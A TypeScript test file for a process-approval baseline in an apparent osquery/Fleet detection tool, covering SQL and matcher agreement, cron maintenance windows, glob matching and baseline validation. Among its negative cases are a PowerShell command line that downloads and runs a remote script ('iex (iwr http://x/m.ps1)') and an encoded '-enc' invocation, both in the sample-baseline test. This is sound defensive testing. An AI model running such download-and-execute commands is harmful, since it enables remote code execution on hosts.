// The baseline is honoured in two places — rendered into the pack's SQL for
// Fleet, and isApproved() in the extension — so the two must agree. These
// tests evaluate the rendered SQL in real SQLite (with osquery's functions)
// against the TypeScript matcher over many processes and clock times.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import Database from 'better-sqlite3';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  approvalPredicate,
  BaselineError,
  compileBaseline,
  globMatches,
  inWindow,
  loadBaseline,
  parseBaseline,
  parseCron,
  type ApprovalSubject,
} from '../../src/intel/baseline.js';
import { registerOsqueryFunctions } from '../../src/host/functions.js';
import { renderApproved } from '../../src/pack/render.js';

const SPEC = `
version: 1
host_groups:
  builders: ['CI-*', 'build-??']
approved:
  - id: backup
    reason: nightly backup
    names: ['VeeamAgent.exe']
    paths: ['C:\\Program Files\\Veeam\\*']
    maintenance_windows:
      - cron: '30 23 * * *'
        duration: 2h
  - id: monthly-patch
    reason: patch Tuesday style window on the 1st or on Mondays
    names: ['patcher.exe']
    maintenance_windows:
      - cron: '0 2 1 * mon'
        duration: 90m
  - id: signed-compiler
    reason: compilers on build hosts
    names: ['cl.exe', 'link.exe']
    signers: ['Microsoft*']
    host_groups: [builders]
  - id: pinned-hash
    reason: exact tool build
    sha256: ['${'AB'.repeat(32)}']
  - id: script
    reason: maintenance script
    cmdlines: ['*Invoke-[Maint]*.ps1*']
`;

test('rendered SQL and isApproved agree on every process and clock time', () => {
  const spec = parseBaseline(SPEC);
  const baseline = compileBaseline(spec);
  const db = new Database(':memory:');
  registerOsqueryFunctions(db);
  db.exec(`CREATE TABLE time (unix_time INTEGER); CREATE TABLE system_info (hostname TEXT);
           CREATE TABLE authenticode (path TEXT, result TEXT, subject_name TEXT); CREATE TABLE hash (path TEXT, sha256 TEXT);
           CREATE TABLE p (name TEXT, path TEXT, cmdline TEXT);`);
  const expr = renderApproved(spec, { path: 'p.path', name: 'p.name', cmdline: 'p.cmdline' });
  const stmt = db.prepare(`SELECT ${expr} AS ok FROM p`).pluck();
  const subjects: (ApprovalSubject & { auth: string })[] = [
    { name: 'VeeamAgent.exe', path: 'C:\\Program Files\\Veeam\\Backup\\VeeamAgent.exe', cmdline: '', auth: '' },
    { name: 'veeamagent.EXE', path: 'c:\\program files\\VEEAM\\x.exe', cmdline: '', auth: '' },
    { name: 'VeeamAgent.exe', path: 'C:\\Users\\Public\\VeeamAgent.exe', cmdline: '', auth: '' },
    { name: 'patcher.exe', path: 'C:\\p\\patcher.exe', cmdline: '', auth: '' },
    {
      name: 'cl.exe',
      path: 'C:\\VS\\cl.exe',
      cmdline: '',
      signer: 'Microsoft Corporation',
      auth: 'Microsoft Corporation',
    },
    { name: 'cl.exe', path: 'C:\\VS\\cl.exe', cmdline: '', signer: 'Evil Corp', auth: 'Evil Corp' },
    { name: 'tool.exe', path: 'C:\\t\\tool.exe', cmdline: '', sha256: 'ab'.repeat(32), auth: '' },
    { name: 'tool.exe', path: 'C:\\t\\tool.exe', cmdline: '', sha256: 'cd'.repeat(32), auth: '' },
    {
      name: 'powershell.exe',
      path: 'C:\\w\\powershell.exe',
      cmdline: 'powershell -File C:\\s\\Invoke-[Maint]Disk.ps1 -x',
      auth: '',
    },
    {
      name: 'powershell.exe',
      path: 'C:\\w\\powershell.exe',
      cmdline: 'powershell -File C:\\s\\Invoke-MDisk.ps1',
      auth: '',
    },
  ];
  const hosts = ['CI-01', 'build-07', 'build-7', 'DESKTOP-1'];
  // Times around the windows: 23:00..02:00 on several days, and 02:00..04:00
  // on the 1st of a month and on Mondays.
  const times: number[] = [];
  for (const day of [
    Date.UTC(2026, 5, 1),
    Date.UTC(2026, 5, 2),
    Date.UTC(2026, 5, 8),
    Date.UTC(2026, 5, 9),
    Date.UTC(2026, 11, 31),
  ]) {
    for (let m = -90; m <= 270; m += 3) times.push(day / 1000 + m * 60 + 13);
  }
  let approvedCount = 0;
  let checked = 0;
  for (const host of hosts) {
    db.exec('DELETE FROM system_info');
    db.prepare('INSERT INTO system_info VALUES (?)').run(host);
    for (const s of subjects) {
      db.exec('DELETE FROM p; DELETE FROM authenticode; DELETE FROM hash');
      db.prepare('INSERT INTO p VALUES (?, ?, ?)').run(s.name, s.path, s.cmdline ?? '');
      if (s.auth) db.prepare("INSERT INTO authenticode VALUES (?, 'trusted', ?)").run(s.path, s.auth);
      if (s.sha256) db.prepare('INSERT INTO hash VALUES (?, ?)').run(s.path, s.sha256);
      for (const t of times) {
        db.exec('DELETE FROM time');
        db.prepare('INSERT INTO time VALUES (?)').run(t);
        const sql = Number(stmt.get()) === 1;
        const ts = baseline.isApproved({ ...s, hostname: host }, new Date(t * 1000));
        assert.is(sql, ts, `${s.name} ${s.path} on ${host} at ${new Date(t * 1000).toISOString()}`);
        if (ts) approvedCount++;
        checked++;
      }
    }
  }
  db.close();
  assert.ok(
    approvedCount > 100 && approvedCount < checked - 100,
    `both outcomes exercised (${approvedCount}/${checked})`,
  );
});

test('windows: start inclusive, end exclusive, across midnight, cron day-of-month OR day-of-week', () => {
  const daily = parseCron('30 23 * * *');
  const at = (iso: string) => Math.floor(Date.parse(iso) / 60_000);
  assert.ok(inWindow(daily, 120, at('2026-06-01T23:30:00Z')));
  assert.ok(inWindow(daily, 120, at('2026-06-02T01:29:00Z')));
  assert.not.ok(inWindow(daily, 120, at('2026-06-02T01:30:00Z')));
  assert.not.ok(inWindow(daily, 120, at('2026-06-01T23:29:00Z')));
  const patch = parseCron('0 2 1 * mon');
  assert.ok(inWindow(patch, 60, at('2026-06-01T02:10:00Z')), 'the 1st');
  assert.ok(inWindow(patch, 60, at('2026-06-08T02:10:00Z')), 'a Monday');
  assert.not.ok(inWindow(patch, 60, at('2026-06-09T02:10:00Z')), 'a Tuesday, not the 1st');
  assert.equal([...parseCron('*/20 9-17/4 * jan,jul 7').minutes], [0, 20, 40]);
  assert.equal([...parseCron('0 9-17/4 * * 7').hours], [9, 13, 17]);
  assert.equal([...parseCron('0 0 * * 7').daysOfWeek], [0]);
});

test('globs: ASCII case-insensitive, * spans folders, [ is literal', () => {
  assert.ok(globMatches('C:\\Program Files\\*\\x.exe', 'c:\\PROGRAM FILES\\a\\b\\X.EXE'));
  assert.ok(globMatches('a[1].exe', 'A[1].EXE'));
  assert.not.ok(globMatches('a[1].exe', 'a1.exe'));
  assert.not.ok(globMatches('?.exe', 'ab.exe'));
});

test('bad baselines are refused with every reason named', async () => {
  const bad = (yaml: string, re: RegExp) =>
    assert.throws(
      () => parseBaseline(yaml, 'b.yml'),
      (e: Error) => e instanceof BaselineError && re.test(e.message),
    );
  bad('version: 1\napproved:\n  - id: x\n    reason: all of it\n', /at least one of names/);
  bad(
    "version: 1\napproved:\n  - id: x\n    reason: oops\n    names: [a]\n    maintenance_windows: [{cron: '61 * * * *', duration: 1h}]\n",
    /cron/,
  );
  bad(
    "version: 1\napproved:\n  - id: x\n    reason: oops\n    names: [a]\n    maintenance_windows: [{cron: '0 * * * * *', duration: 1h}]\n",
    /five fields/,
  );
  bad(
    "version: 1\napproved:\n  - id: x\n    reason: oops\n    names: [a]\n    maintenance_windows: [{cron: '0 1 * * *', duration: 'forever'}]\n",
    /duration/,
  );
  bad(
    'version: 1\napproved:\n  - id: x\n    reason: oops\n    names: [a]\n    host_groups: [nope]\n',
    /unknown host group "nope"/,
  );
  bad(
    'version: 1\napproved:\n  - {id: x, reason: one, names: [a]}\n  - {id: x, reason: two, names: [b]}\n',
    /duplicate id "x"/,
  );
  bad('version: 1\napproved:\n  - {id: x, reason: one, sha256: [abc]}\n', /sha256/);
  bad('version: 2\n', /version/);
  bad('version: 1\nextra: true\n', /Unrecognized key/);
  bad('version: [1\n', /not valid YAML/);
  const dir = await mkdtemp(join(tmpdir(), 'an1489-baseline-'));
  try {
    const missing = await loadBaseline(join(dir, 'missing.yml')).then(
      () => null,
      (e: Error) => e,
    );
    assert.match(String(missing?.message), /cannot read baseline .*ENOENT/);
    await writeFile(join(dir, 'b.yml'), '\u0000\u0001garbage: [');
    const corrupt = await loadBaseline(join(dir, 'b.yml')).then(
      () => null,
      (e: Error) => e,
    );
    assert.ok(corrupt instanceof BaselineError, String(corrupt));
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

test('the sample packs/baseline.yml loads and approves what it documents', async () => {
  const b = await loadBaseline(join(process.cwd(), 'packs', 'baseline.yml'));
  const veeam = { name: 'VeeamAgent.exe', path: 'C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe' };
  assert.is(b.approvedBy(veeam, new Date('2026-11-25T02:30:00Z')), 'backup-agent-nightly');
  assert.is(b.approvedBy(veeam, new Date('2026-11-25T14:30:00Z')), null);
  const cl =
    'C:\\Program Files\\Microsoft Visual Studio\\2022\\BuildTools\\VC\\Tools\\MSVC\\14.38.33130\\bin\\Hostx64\\x64\\cl.exe';
  assert.is(b.approvedBy({ name: 'cl.exe', path: cl, hostname: 'BUILD-07' }, new Date()), 'build-agent-compilers');
  assert.is(b.approvedBy({ name: 'cl.exe', path: cl, hostname: 'LAPTOP-1' }, new Date()), null);
  // A miner named like a compiler, on a build agent, from where no toolchain is installed.
  for (const path of [
    'C:\\Users\\builder\\AppData\\Local\\Temp\\n\\node.exe',
    'C:\\x\\cl.exe',
    'C:\\hostedtoolcache\\windows\\cl.exe',
    // A code host runs what it is handed: from Program Files too, a script miner.
    'C:\\Program Files\\nodejs\\node.exe',
  ])
    assert.is(b.approvedBy({ name: path.split('\\').pop()!, path, hostname: 'BUILD-07' }, new Date()), null, path);
  // The maintenance script by its whole command line, in its window; not a command line that only mentions it.
  const ps = { name: 'powershell.exe', path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' };
  const sunday = new Date('2026-11-29T03:20:00Z');
  const script = '\\\\corp.example\\netlogon\\maintenance\\Invoke-DiskMaintenance.ps1';
  assert.is(
    b.approvedBy({ ...ps, cmdline: `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${script}` }, sunday),
    'disk-maintenance-script',
  );
  for (const cmdline of [
    `powershell.exe -enc SQBFAFgA # ${script}`,
    `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${script}; iex (iwr http://x/m.ps1)`,
  ])
    assert.is(b.approvedBy({ ...ps, cmdline }, sunday), null, cmdline);
});

test('approvalPredicate: a broken or missing file approves nothing and says so', async () => {
  const logs: string[] = [];
  const log = (level: string, m: string) => logs.push(`${level}: ${m}`);
  const dir = await mkdtemp(join(tmpdir(), 'an1489-pred-'));
  try {
    await writeFile(join(dir, 'bad.yml'), 'version: 1\napproved:\n  - id: x\n    reason: all\n');
    const bad = await approvalPredicate(join(dir, 'bad.yml'), 'CI-01', log);
    assert.is(bad({ name: 'anything.exe', path: 'C:\\x.exe', cmdline: null }, new Date()), false);
    assert.match(logs.join('\n'), /error: baseline: .*no workload is approved/);
    const good = await approvalPredicate(join(process.cwd(), 'packs', 'baseline.yml'), 'CI-01', log);
    assert.is(
      good({ name: 'cl.exe', path: 'C:\\Program Files\\VS\\cl.exe', cmdline: null }, new Date()),
      true,
      'host group from the given hostname',
    );
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

test.run();
